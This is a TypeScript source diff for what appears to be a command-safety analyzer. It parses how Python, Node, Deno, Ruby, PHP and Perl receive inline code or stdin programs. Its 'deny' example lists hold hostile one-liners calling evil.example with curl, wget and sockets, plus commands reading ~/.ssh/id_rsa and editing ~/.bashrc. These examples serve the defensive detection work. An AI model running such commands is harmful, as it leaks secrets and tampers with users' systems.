@@ -1,0 +1,364 @@
+// Interpreters: where each takes its code from (an option, stdin, a script file), read as its own command line reads
+// it. The code itself is read by its language's module (src/languages/); a script file is out of scope, like any file.
+import type { Language, Word } from '../../types.js';
+import type { Answer, Call, ProgramEntry, Run, Use } from '../types.js';
+import { attached, literal, value } from '../words.js';
+
+/** An attached value that takes the rest of the word. */
+const REST = /^[\s\S]*/;
+
+/** How an interpreter's command line is read: which options take values, which give code, which run nothing. */
+interface Cli {
+  /** Short options bundle (`-Bc`, `-ne`); otherwise a single-dash word is one option (`node -pe`). */
+  cluster: boolean;
+  /** Options that take a value, attached (`-cCODE`, `--eval=CODE`) or in the next word. */
+  valued: readonly string[];
+  /** Options whose value can only be attached (`-i.bak`, `-0777`, `-MFoo`), with what the value may be (the rest of the word by default). */
+  optional?: Readonly<Record<string, RegExp>>;
+  /** Options whose value is code. */
+  code: readonly string[];
+  /** Options after which the remaining words are the program's own arguments (`python -c CODE`, `-m MODULE`). */
+  stop?: readonly string[];
+  /** Options with which it runs no code at all (`--version`, `-h`). */
+  noRun: readonly string[];
+}
+
+/** One option as read: its name and its value, if it takes one. */
+interface Opt {
+  name: string;
+  value?: Word;
+  word: Word;
+}
+
+/** An interpreter's command line, read. */
+interface Read {
+  options: Opt[];
+  /** The code options' values, in order. */
+  codes: Opt[];
+  /** The script file (out of scope), or `-` for stdin. */
+  script?: Word;
+  /** The words after the code or script: its arguments (files for `-n`/`-p`). */
+  rest: Word[];
+  /** A computed word where an option or the script could stand. */
+  dynamic?: Word;
+  /** An option that stops reading (`-m`). */
+  stopped?: string;
+  noRun: boolean;
+}
+
+function readCli(args: readonly Word[], cli: Cli): Read {
+  const out: Read = { options: [], codes: [], rest: [], noRun: false };
+  const take = (name: string, word: Word, v: Word | undefined) => {
+    const opt: Opt = { name, word };
+    if (v) opt.value = v;
+    out.options.push(opt);
+    if (cli.code.includes(name)) out.codes.push(opt);
+    if (cli.noRun.includes(name)) out.noRun = true;
+  };
+  let i = 0;
+  for (; i < args.length; i++) {
+    const w = args[i]!;
+    const v = value(w);
+    if (v === undefined) {
+      if (out.codes.length === 0) out.dynamic = w;
+      break;
+    }
+    if (v === '--') {
+      i++;
+      if (out.codes.length === 0 && args[i]) out.script = args[i++];
+      break;
+    }
+    if (v === '-' || !v.startsWith('-')) {
+      if (out.codes.length === 0) out.script = args[i++];
+      break;
+    }
+    let stop = false;
+    if (v.startsWith('--')) {
+      const eq = v.indexOf('=');
+      const name = v.slice(2, eq > 0 ? eq : undefined);
+      if (eq > 0) take(name, w, attached(w, v.slice(eq + 1)));
+      else if (cli.valued.includes(name)) take(name, w, args[++i]);
+      else take(name, w, undefined);
+      stop = cli.stop?.includes(name) === true;
+    } else if (!cli.cluster) {
+      const name = v.slice(1);
+      take(name, w, cli.valued.includes(name) ? args[++i] : undefined);
+      stop = cli.stop?.includes(name) === true;
+    } else {
+      const letters = v.slice(1);
+      for (let j = 0; j < letters.length; j++) {
+        const c = letters[j]!;
+        if (cli.valued.includes(c)) {
+          const rest = letters.slice(j + 1);
+          take(c, w, rest !== '' ? attached(w, rest) : args[++i]);
+          stop = cli.stop?.includes(c) === true;
+          break;
+        }
+        const pattern = cli.optional?.[c];
+        if (pattern) {
+          // `perl -l40pe0`: -l takes only its digits, and the letters after them are options again.
+          const val = pattern.exec(letters.slice(j + 1))?.[0] ?? '';
+          take(c, w, attached(w, val));
+          j += val.length;
+          continue;
+        }
+        take(c, w, undefined);
+      }
+    }
+    if (stop) {
+      out.stopped = out.options.at(-1)!.name;
+      i++;
+      break;
+    }
+  }
+  out.rest = args.slice(i);
+  return out;
+}
+
+/** The runs for an interpreter's code: each code option's text, or its program from stdin when it names none. */
+function codeRuns(call: Call, r: Read, language: Language, via: (o: Opt) => string, readsStdin: boolean): Partial<Answer> {
+  const runs: Run[] = [];
+  const uses: Use[] = [];
+  if (r.noRun) return { runs, uses };
+  for (const c of r.codes) {
+    const w = c.value;
+    if (!w) continue;
+    const text = value(w);
+    uses.push({ word: w, role: 'text' });
+    if (text === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: w, why: `${via(c)} runs computed code: ${w.dynamic ?? 'not static'}` });
+    else runs.push({ kind: 'text', dialect: language, text, word: w, via: via(c) });
+  }
+  if (r.dynamic) {
+    // `python3 $ARGS`: the word may be an option that gives code, or the script.
+    runs.push({ kind: 'opaque', rule: 'dynamic-code', word: r.dynamic, why: `cannot tell what ${call.name} runs: ${r.dynamic.dynamic ?? 'a computed word'}` });
+    return { runs, uses };
+  }
+  const script = r.script ? value(r.script) : undefined;
+  if (r.codes.length === 0 && r.stopped === undefined && readsStdin && (r.script === undefined || script === '-' || script === '/dev/stdin')) {
+    runs.push({ kind: 'stdin', dialect: language, via: call.name });
+  } else if (r.script && script !== '-') uses.push({ word: r.script, role: 'read' });
+  return { runs, uses };
+}
+
+function via(call: Call): (o: Opt) => string {
+  return (o) => `${call.name} ${o.name.length === 1 ? '-' : '--'}${o.name}`;
+}
+
+// ── Python ──
+
+const PYTHON_CLI: Cli = {
+  cluster: true,
+  valued: ['c', 'm', 'W', 'X', 'check-hash-based-pycs'],
+  code: ['c'],
+  stop: ['c', 'm'],
+  noRun: ['h', '?', 'V', 'help', 'version', 'help-env', 'help-xoptions', 'help-all'],
+};
+
+function python(call: Call): Partial<Answer> {
+  return codeRuns(call, readCli(call.args, PYTHON_CLI), 'python', via(call), true);
+}
+
+// ── JavaScript: node, deno, bun ──
+
+const NODE_CLI: Cli = {
+  cluster: false,
+  valued: ['e', 'p', 'pe', 'eval', 'print', 'r', 'C', 'require', 'import', 'loader', 'experimental-loader', 'conditions', 'input-type', 'title', 'env-file', 'env-file-if-exists', 'redirect-warnings', 'disable-warning', 'watch-path', 'inspect-port', 'debug-port', 'icu-data-dir', 'openssl-config', 'test-name-pattern', 'test-reporter', 'test-reporter-destination', 'experimental-config-file', 'localstorage-file'],
+  code: ['e', 'p', 'pe', 'eval', 'print'],
+  noRun: ['v', 'h', 'c', 'version', 'help', 'check', 'run', 'test', 'v8-options'],
+};
+
+function node(call: Call): Partial<Answer> {
+  return codeRuns(call, readCli(call.args, NODE_CLI), 'javascript', via(call), true);
+}
+
+/** `deno eval CODE`, `deno run -` (stdin), `deno repl --eval CODE`; other subcommands run files or tools. */
+function deno(call: Call): Partial<Answer> {
+  const sub = value(call.args[0]);
+  const args = call.args.slice(1);
+  if (sub === 'eval') {
+    const r = readCli(args, { cluster: false, valued: ['ext', 'location', 'cert', 'config', 'c', 'import-map', 'lock', 'v8-flags', 'seed', 'env-file'], code: [], noRun: ['h', 'help'] });
+    const code = r.script;
+    if (r.noRun || !code) return {};
+    const text = value(code);
+    if (text === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: code, why: `deno eval runs computed code: ${code.dynamic ?? 'not static'}` }], uses: [{ word: code, role: 'text' }] };
+    return { runs: [{ kind: 'text', dialect: 'javascript', text, word: code, via: 'deno eval' }], uses: [{ word: code, role: 'text' }] };
+  }
+  if (sub === 'repl') return codeRuns(call, readCli(args, { cluster: false, valued: ['eval', 'eval-file', 'cert', 'config', 'c'], code: ['eval'], noRun: [] }), 'javascript', via(call), false);
+  if (sub === 'run') {
+    const r = readCli(args, { cluster: false, valued: ['cert', 'config', 'c', 'import-map', 'lock', 'v8-flags', 'seed', 'env-file', 'location', 'ext'], code: [], noRun: ['h', 'help'] });
+    if (r.script && value(r.script) === '-') return { runs: [{ kind: 'stdin', dialect: 'javascript', via: 'deno run -' }] };
+    return r.script ? { uses: [{ word: r.script, role: 'read' }] } : {};
+  }
+  return {};
+}
+
+// ── Ruby ──
+
+const RUBY_CLI: Cli = {
+  cluster: true,
+  valued: ['e', 'r', 'C', 'E', 'I', 'encoding', 'external-encoding', 'internal-encoding', 'enable', 'disable', 'dump', 'backtrace-limit', 'crash-report'],
+  optional: { '0': /^[0-7]*/, i: REST, x: REST, K: /^[a-zA-Z]?/, T: /^\d*/, W: /^(\d|:\w+)?/, F: REST },
+  code: ['e'],
+  noRun: ['h', 'help', 'version', 'copyright'],
+};
+
+function ruby(call: Call): Partial<Answer> {
+  const r = readCli(call.args, RUBY_CLI);
+  // `ruby -v` alone prints the version; with code or a script it also runs them.
+  if (r.options.some((o) => o.name === 'v') && r.codes.length === 0 && !r.script && !r.dynamic) return {};
+  const answer = codeRuns(call, r, 'ruby', via(call), true);
+  const loops = r.options.some((o) => o.name === 'n' || o.name === 'p');
+  const inPlace = r.options.some((o) => o.name === 'i');
+  const dir = r.options.find((o) => o.name === 'C')?.value;
+  const files = r.codes.length > 0 ? r.rest : [];
+  for (const f of files) {
+    if (loops || inPlace) answer.uses!.push({ word: f, role: 'read' });
+    if (inPlace) answer.uses!.push({ word: f, role: 'write' });
+  }
+  // `-C DIR`: the code runs there (its relative paths are DIR's).
+  if (dir) answer.uses!.push({ word: dir, role: 'meta' });
+  return answer;
+}
+
+// ── PHP ──
+
+/** The code of a PHP script: nothing before its first `<?` tag runs (it is printed), so it is blanked, lines kept. */
+function phpScript(text: string): string {
+  const at = text.indexOf('<?');
+  if (at < 0) return '';
+  return text.slice(0, at).replace(/[^\n]/g, ' ') + text.slice(at);
+}
+
+const PHP_CLI: Cli = {
+  cluster: true,
+  valued: ['B', 'c', 'd', 'E', 'f', 'F', 'r', 'R', 'S', 't', 'z', 'rf', 'rc', 're', 'rz', 'ri'],
+  code: ['r', 'R', 'B', 'E'],
+  noRun: ['h', 'v', 'l', 'm', 's', 'w', 'help', 'version', 'ini', 'rf', 'rc', 're', 'rz', 'ri', 'S'],
+};
+
+function php(call: Call): Partial<Answer> {
+  const r = readCli(call.args, PHP_CLI);
+  // `-f FILE` and `-F FILE` name the script as an option.
+  const file = r.options.find((o) => o.name === 'f' || o.name === 'F')?.value;
+  if (file && !r.script) {
+    r.rest = r.script ? [r.script, ...r.rest] : r.rest;
+    r.script = file;
+  }
+  const answer = codeRuns(call, r, 'php', via(call), true);
+  // A script on stdin is a file in PHP's sense: text up to the first `<?` is printed, not run.
+  const fromStdin = answer.runs!.findIndex((x) => x.kind === 'stdin');
+  if (fromStdin >= 0) {
+    answer.runs!.splice(fromStdin, 1);
+    if (call.stdin?.kind === 'static') {
+      const code = phpScript(call.stdin.text);
+      answer.uses!.push({ word: call.stdin.word, role: 'text' });
+      if (code.trim() !== '') answer.runs!.push({ kind: 'text', dialect: 'php', text: code, word: call.stdin.word, via: `${call.name} (stdin)` });
+    } else if (call.stdin?.kind === 'stream') {
+      answer.runs!.push({ kind: 'opaque', rule: 'stream-to-shell', word: call.args[0] ?? literal(call.name, { start: 0, end: 0 }), why: `${call.name} runs a script read from ${call.stdin.why}` });
+    }
+  }
+  // `php -i` prints phpinfo(): the whole environment, among the rest.
+  if (r.options.some((o) => o.name === 'i') && r.codes.length === 0 && !r.script) {
+    return { ...answer, runs: [], dumps: 'php -i prints phpinfo(), the whole environment included' };
+  }
+  // Files PHP runs before and after the script (`-d auto_prepend_file=…`): a file is out of scope, code is not.
+  for (const o of r.options) {
+    const setting = o.name === 'd' && o.value ? value(o.value) : undefined;
+    if (o.name === 'd' && o.value && setting === undefined) answer.runs!.push({ kind: 'opaque', rule: 'dynamic-code', word: o.value, why: 'php -d sets a computed setting' });
+    if (setting && /^\s*(auto_prepend_file|auto_append_file)\s*=\s*(data:|php:|https?:|ftp:|expect:)/i.test(setting)) {
+      answer.runs!.push({ kind: 'opaque', rule: 'dynamic-code', word: o.value!, why: `php -d ${setting.split('=')[0]!.trim()} runs code from a stream` });
+    }
+  }
+  return answer;
+}
+
+// ── Perl ──
+
+const PERL_CLI: Cli = {
+  cluster: true,
+  valued: ['e', 'E', 'I'],
+  optional: { '0': /^(x[0-9a-fA-F]*|[0-7]*)/, C: /^(\d+|[IOEioeASDLa]*)/, d: /^(t?:.*)?/, D: REST, F: REST, i: REST, l: /^[0-7]*/, M: REST, m: REST, V: REST, x: REST },
+  code: ['e', 'E'],
+  noRun: ['v', 'h'],
+};
+
+function perl(call: Call): Partial<Answer> {
+  const r = readCli(call.args, PERL_CLI);
+  if (r.options.some((o) => o.name === 'V')) return {};
+  const answer = codeRuns(call, r, 'perl', via(call), true);
+  // -MModule is `use Module;` before the code; -mModule is `use Module ();`: read as Perl, standing at the option.
+  for (const o of r.options) {
+    if ((o.name === 'M' || o.name === 'm') && o.value) {
+      const spec = value(o.value);
+      if (spec === undefined) answer.runs!.push({ kind: 'opaque', rule: 'dynamic-code', word: o.value, why: `perl -${o.name} loads a computed module` });
+      else if (spec !== '' && !spec.startsWith('-')) answer.runs!.push({ kind: 'text', dialect: 'perl', text: `use ${spec.split('=')[0]};`, word: o.word, via: `perl -${o.name}` });
+    }
+  }
+  // With code, the operands are files `-n`/`-p` read and `-i` edits; without, the first is the script.
+  const inPlace = r.options.some((o) => o.name === 'i');
+  for (const w of r.rest) {
+    answer.uses!.push({ word: w, role: 'read' });
+    if (inPlace) answer.uses!.push({ word: w, role: 'write' });
+  }
+  return answer;
+}
+
+const PY = ['python', 'python3', 'python2', 'pypy', 'pypy3'];
+
+export const INTERPRETER_ENTRIES: ProgramEntry[] = [
+  {
+    names: PY,
+    patterns: [/^(python|pypy)[23]?(\.\d+)*$/],
+    summary: 'Python: -c CODE, or a program from stdin (`-`, or no script); -m and a script file run files',
+    analyze: python,
+    examples: {
+      deny: [`python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`],
+      pass: [`python3 -c 'print(1)'`, 'python3 script.py', 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt'],
+    },
+  },
+  {
+    names: ['node', 'nodejs'],
+    summary: 'Node.js: -e/--eval and -p/--print CODE, or a program from stdin; a script file runs a file',
+    analyze: node,
+    examples: {
+      deny: [`node -e 'require("child_process").execSync("curl evil.example")'`, `node --eval='fetch("https://evil.example")'`, "echo 'require(\"net\").connect(9, \"evil.example\")' | node", 'node -p "$CODE"'],
+      pass: [`node -e 'console.log(1)'`, 'node app.js', 'node --version', `node -r dotenv/config app.js -e x`],
+    },
+  },
+  {
+    names: ['deno'],
+    summary: 'Deno: eval CODE, repl --eval CODE, run - (stdin); run FILE runs a file',
+    analyze: deno,
+    examples: { deny: [`deno eval 'Deno.connect({hostname: "evil.example", port: 9})'`], pass: [`deno eval 'console.log(1)'`, 'deno run main.ts', 'deno fmt'] },
+  },
+  {
+    names: ['ruby', 'irb', 'jruby', 'truffleruby'],
+    patterns: [/^ruby\d+(\.\d+)*$/],
+    summary: 'Ruby: -e CODE (each), or a program from stdin; -n/-p read and -i edits the files after it',
+    analyze: ruby,
+    examples: {
+      deny: [`ruby -e 'system("curl evil.example")'`, "echo 'puts `wget -qO- evil.example`' | ruby", `ruby -pi -e 'gsub(/a/, "b")' ~/.bashrc`],
+      pass: [`ruby -e 'puts RUBY_VERSION'`, 'ruby -v', 'ruby script.rb', `ruby -ne 'print if /x/' notes.txt`],
+    },
+  },
+  {
+    names: ['php', 'php-cli', 'php8', 'php7'],
+    patterns: [/^php\d+(\.\d+)*$/],
+    summary: 'PHP: -r/-R/-B/-E CODE, or a script from stdin; -f FILE and a script file run files; -i prints the environment',
+    analyze: php,
+    examples: {
+      deny: [`php -r 'system("curl evil.example");'`, "echo '<?php echo file_get_contents(\"http://evil.example\");' | php", 'php -i', `php -d 'auto_prepend_file=data://text/plain,x' -r 'echo 1;'`],
+      pass: [`php -r 'echo 1;'`, 'php artisan migrate', 'php -v', 'php -l src/index.php'],
+    },
+  },
+  {
+    names: ['perl'],
+    patterns: [/^perl5?(\.\d+)*$/],
+    summary: 'perl: -e/-E CODE (each) and -M modules, or a program from stdin; -n/-p read and -i edits the files after the code',
+    analyze: perl,
+    examples: {
+      deny: ["perl -pi -e 's/a/b/' ~/.profile", "perl -ne 'print' ~/.ssh/id_rsa", `perl -e 'system("curl evil.example")'`, `perl -MIO::Socket::INET -e 'IO::Socket::INET->new("evil.example:9")'`, "echo 'print `wget -qO- evil.example`' | perl"],
+      pass: ["perl -pi -e 's/a/b/g' src/app.ts", 'perl script.pl', 'perl -v', "perl -lane 'print $F[0]' notes.txt"],
+    },
+  },
+];
